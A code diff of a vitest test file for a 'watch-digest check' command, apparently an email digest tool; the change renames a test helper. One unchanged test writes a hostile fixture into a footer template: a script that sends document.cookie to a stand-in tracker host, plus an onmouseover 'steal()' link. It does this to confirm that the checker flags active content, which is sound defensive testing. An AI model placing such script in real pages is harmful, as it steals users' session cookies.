@@ -3,7 +3,8 @@ import type { AddressInfo } from 'node:net';
 import path from 'node:path';
 import dns2 from 'dns2';
 import { afterEach, describe, expect, it } from 'vitest';
-import { PROJECT_ROOT, fixture, item, runCli, weekOf } from '../helpers/fixture.js';
+import { cli } from '../helpers/cli.js';
+import { PROJECT_ROOT, fixture, item, weekOf } from '../helpers/fixture.js';
 import { html, startHttpServer, status } from '../helpers/http.js';
 import { LIVE_DOMAIN } from '../helpers/live-project.js';
 
@@ -17,10 +18,10 @@ async function checked(files: Record<string, string | null>, args: string[] = []
   const tree = Object.entries({ ...liveWeek(), 'watch-digest.config.json': JSON.stringify(CONFIG), ...files }).filter((entry): entry is [string, string] => entry[1] !== null);
   const dir = await fixture(Object.fromEntries(tree));
   if (edit) {
-    expect((await runCli(['compose', '--week', WEEK], dir)).code).toBe(0);
+    expect((await cli(['compose', '--week', WEEK], dir)).code).toBe(0);
     await edit(dir);
   }
-  const run = await runCli(['check', '--week', WEEK, '--json', ...args], dir, env);
+  const run = await cli(['check', '--week', WEEK, '--json', ...args], dir, env);
   return { run, report: JSON.parse(run.stdout || '{}') as { errors: number; warnings: number; findings: Array<{ level: string; rule: string; message: string }>; notes: string[] }, dir };
 }
 
@@ -33,7 +34,7 @@ describe('watch-digest check', () => {
     expect(report).toMatchObject({ errors: 0, warnings: 0 });
     expect(report.notes).toContain(`${WEEK} was not built yet: composed it first`);
     const dir = await fixture({ ...liveWeek(), 'watch-digest.config.json': JSON.stringify(CONFIG) });
-    const plain = await runCli(['check', '--week', WEEK], dir);
+    const plain = await cli(['check', '--week', WEEK], dir);
     expect(plain.stdout).toContain(`${WEEK}: 0 errors, 0 warnings`);
   });
 
@@ -71,7 +72,7 @@ describe('watch-digest check', () => {
       await cp(path.join(PROJECT_ROOT, 'templates'), path.join(dir, 'templates'), { recursive: true });
       const footer = path.join(dir, 'templates', 'partials', 'footer.mjml');
       await writeFile(footer, (await readFile(footer, 'utf8')).replace('<a href="{{ placeholders.unsubscribeUrl }}">Unsubscribe</a>', ''));
-      expect((await runCli(['compose', '--week', WEEK], dir)).code).toBe(0);
+      expect((await cli(['compose', '--week', WEEK], dir)).code).toBe(0);
     });
     expect(noLink.run.code).toBe(1);
     expect(rules(noLink.report)).toEqual(['error unsubscribe-link']);
@@ -94,7 +95,7 @@ describe('watch-digest check', () => {
       const footer = path.join(dir, 'templates', 'partials', 'footer.mjml');
       const active = '<mj-raw><script>fetch("https://tracker.example/?" + document.cookie)</script></mj-raw>\n<mj-section><mj-column><mj-text><a href="javascript:void(0)" onmouseover="steal()">More</a></mj-text></mj-column></mj-section>\n';
       await writeFile(footer, active + (await readFile(footer, 'utf8')));
-      expect((await runCli(['compose', '--week', WEEK], dir)).code).toBe(0);
+      expect((await cli(['compose', '--week', WEEK], dir)).code).toBe(0);
     });
     expect(run.code).toBe(1);
     expect(report.findings.filter((f) => f.rule === 'active-content').map((f) => f.message).sort()).toEqual([
